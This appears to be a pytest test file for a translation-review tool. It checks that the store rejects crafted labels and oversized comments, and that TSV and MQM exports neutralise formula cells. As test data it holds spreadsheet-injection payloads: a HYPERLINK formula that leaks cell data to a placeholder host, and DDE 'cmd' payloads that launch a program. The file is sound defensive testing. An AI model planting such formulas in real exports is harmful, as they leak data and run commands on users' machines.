"""Issue 21, point 9: content from one user must not act in another's spreadsheet or
store. A crafted picker event stored any category, any severity and a 2,000,000-character
comment; TSV and MQM exports wrote `=HYPERLINK(…)` cells as they were. The store now takes
labels from its typology and bounds comments and corrections; TSV and MQM exports prefix
formula-like cells with `'` (OWASP), unless `--allow-formulas`; the reviews backup (JSONL,
not a spreadsheet format) keeps the text exactly."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from mtreview.cli import main
from mtreview.errors import StoreError
from mtreview.mqm import parse_typology
from mtreview.store import FinalSpan, ReviewStore
from mtreview.store.actions import MAX_COMMENT, correction_limit

LINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
FORMULAS = [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1"]
ROWS = [  # source, translation: what a hostile document brings
    ("@SUM(1+1)*cmd|' /C calc'!A0", "=cmd|' /C calc'!A0 puis la suite."),
    ("The court fined it.", "Le tribunal l'a condamnée."),
    ("Its director left.", "Sa directrice est partie."),
]


@pytest.fixture
def db(tmp_path: Path) -> Path:
    table = tmp_path / "news.tsv"
    lines = ["source\ttranslation", *("\t".join(row) for row in ROWS)]
    table.write_text("\n".join(lines) + "\n", "utf-8")
    path = tmp_path / "review.db"
    assert main(["score", str(table), "--no-models", "--db", str(path)]) == 0
    return path


def _doc(store: ReviewStore) -> str:
    [info] = store.documents()
    return info.doc_id


def _state(store: ReviewStore) -> tuple[object, ...]:
    reviews = list(store.iter_segments(_doc(store)))
    return (
        [(r.annotations, r.correction, r.version) for r in reviews],
        len(store.audit_log()),
        store.adjudications(_doc(store)),
    )


# --- labels and lengths, refused by the store ---------------------------------------------
@pytest.mark.parametrize(
    ("change", "why"),
    [
        ({"category": "Evil <img src=x>"}, "unknown MQM category"),
        ({"category": ""}, "unknown MQM category"),
        ({"category": "Accuracy"}, "unknown MQM category"),  # a category, not a label
        ({"severity": "apocalyptic"}, "unknown MQM severity"),
        ({"severity": "major\u200b"}, "unknown MQM severity"),
        ({"comment": "x" * (MAX_COMMENT + 1)}, "longer than 2,000"),
        ({"comment": "x" * 2_000_000}, "longer than 2,000"),
    ],
)
def test_a_crafted_annotation_is_refused_and_nothing_is_written(
    db: Path, change: dict[str, str], why: str
) -> None:
    fields = {"category": "Accuracy/Mistranslation", "severity": "major", "comment": ""}
    with ReviewStore(db) as store:
        doc = _doc(store)
        mark = store.add_annotation(doc, 1, 0, 2, reviewer="anne", **fields)
        before = _state(store)
        with pytest.raises(StoreError, match=why):
            store.add_annotation(doc, 1, 0, 2, reviewer="anne", **{**fields, **change})
        with pytest.raises(StoreError, match=why):
            store.update_annotation(mark.id, reviewer="anne", **change)
        spans = [FinalSpan(0, 2, **{**fields, **change})]
        with pytest.raises(StoreError, match=why):
            store.adjudicate(doc, 1, by="lena", text=None, spans=spans)
        assert _state(store) == before


def test_labels_are_stored_as_the_typology_spells_them(db: Path) -> None:
    with ReviewStore(db) as store:
        mark = store.add_annotation(
            _doc(store), 1, 0, 2, category="fluency/grammar",
            severity="MAJOR", reviewer="anne", comment="x" * MAX_COMMENT,
        )  # fmt: skip
        assert (mark.category, mark.severity) == ("Fluency/Grammar", "major")


def test_a_team_typology_is_the_one_enforced(db: Path) -> None:
    table = "category\tsubcategory\tlow\thigh\nMeaning\t\t1\t5\nForm\tTypo\t0.5\t2\n"
    typology = parse_typology(table, "team.tsv")
    with ReviewStore(db, typology=typology) as store:
        doc = _doc(store)
        before = _state(store)
        with pytest.raises(StoreError, match=r"not in the typology team\.tsv"):
            store.add_annotation(doc, 1, 0, 2, category="Other", severity="low", reviewer="a")
        with pytest.raises(StoreError, match="expected one of low, high"):
            store.add_annotation(doc, 1, 0, 2, category="Meaning", severity="minor", reviewer="a")
        assert _state(store) == before
        mark = store.add_annotation(
            doc, 1, 0, 2, category="form/typo", severity="High", reviewer="a"
        )
        assert (mark.category, mark.severity) == ("Form/Typo", "high")


def test_corrections_and_notes_have_a_length_limit(db: Path) -> None:
    with ReviewStore(db) as store:
        doc = _doc(store)
        segment = store.segment(doc, 1).text
        limit = correction_limit(segment)
        assert limit == max(2_000, 10 * len(segment))
        before = _state(store)
        for text in ("y" * (limit + 1), "z" * 200_000):
            with pytest.raises(StoreError, match="may have at most 2,000"):
                store.save_correction(doc, 1, text, expected_version=0, reviewer="anne")
            with pytest.raises(StoreError, match="at most 2,000"):
                store.adjudicate(doc, 1, by="lena", text=text, spans=[])
        with pytest.raises(StoreError, match="note is longer than 2,000"):
            store.adjudicate(doc, 1, by="lena", text=None, spans=[], note="n" * 2_001)
        assert _state(store) == before
        saved = store.save_correction(doc, 1, "w" * limit, expected_version=0, reviewer="anne")
        assert saved.version == 1


# --- exports: no formula reaches a spreadsheet --------------------------------------------
def _hostile_work(db: Path) -> str:
    with ReviewStore(db) as store:
        doc = _doc(store)
        for index, formula in enumerate(FORMULAS[:3]):
            store.save_correction(doc, index, formula, expected_version=0, reviewer="@ann")
        store.add_annotation(
            doc, 0, 4, 9, category="Other", severity="minor", reviewer="@ann", comment=LINK
        )
        return doc


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle, delimiter="\t", quoting=csv.QUOTE_NONE))


def _formula_cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.parametrize("fmt", ["tsv", "mqm"])
def test_exports_neutralise_formula_cells(db: Path, tmp_path: Path, fmt: str) -> None:
    _hostile_work(db)
    safe, raw = tmp_path / f"safe.{fmt}.tsv", tmp_path / f"raw.{fmt}.tsv"
    assert main(["export", "--db", str(db), "--format", fmt, "-o", str(safe)]) == 0
    argv = ["export", "--db", str(db), "--format", fmt, "-o", str(raw), "--allow-formulas"]
    assert main(argv) == 0
    rows = _cells(safe)
    assert _formula_cells(rows) == []
    cells = {cell for row in rows for cell in row}
    assert "'@ann" in cells  # the reviewer's name, as typed, behind the quote
    if fmt == "tsv":  # the corrections, behind the quote
        assert {"'" + LINK, "'+1+cmd|' /C calc'!A0", "'-2+3"} <= cells
        assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells  # the document's own source
    else:  # the machine translation and source of the hostile row
        assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
        assert "'=cmd<v>|' /C</v> calc'!A0 puis la suite." in cells
    # opted out: the same cells as they are
    unquoted = [[cell.removeprefix("'") for cell in row] for row in rows]
    assert _cells(raw) == unquoted and "@ann" in _formula_cells(unquoted)


def test_the_reviews_backup_keeps_the_text_exactly(db: Path, tmp_path: Path) -> None:
    _hostile_work(db)
    first, second = tmp_path / "first.jsonl", tmp_path / "second.jsonl"
    assert main(["export", "--db", str(db), "--format", "reviews", "-o", str(first)]) == 0
    records = [json.loads(line) for line in first.read_text("utf-8").splitlines()]
    texts = {r.get("text") for r in records if r["type"] == "correction"}
    assert set(FORMULAS[:3]) <= texts
    assert LINK in {r.get("comment") for r in records if r["type"] == "annotation"}
    fresh = tmp_path / "fresh.db"
    assert main(["import-reviews", str(first), "--db", str(fresh)]) == 0
    assert main(["export", "--db", str(fresh), "--format", "reviews", "-o", str(second)]) == 0

    def work(path: Path) -> list[str]:  # the fresh store adds its own audit line: not work
        lines = path.read_text("utf-8").splitlines()
        return [line for line in lines if json.loads(line)["type"] != "audit"]

    assert work(second) == work(first)
    jsonl = tmp_path / "corpus.jsonl"  # nor is the Hugging Face JSONL a spreadsheet
    assert main(["export", "--db", str(db), "--format", "jsonl", "-o", str(jsonl)]) == 0
    assert LINK in jsonl.read_text("utf-8").encode().decode("unicode_escape")
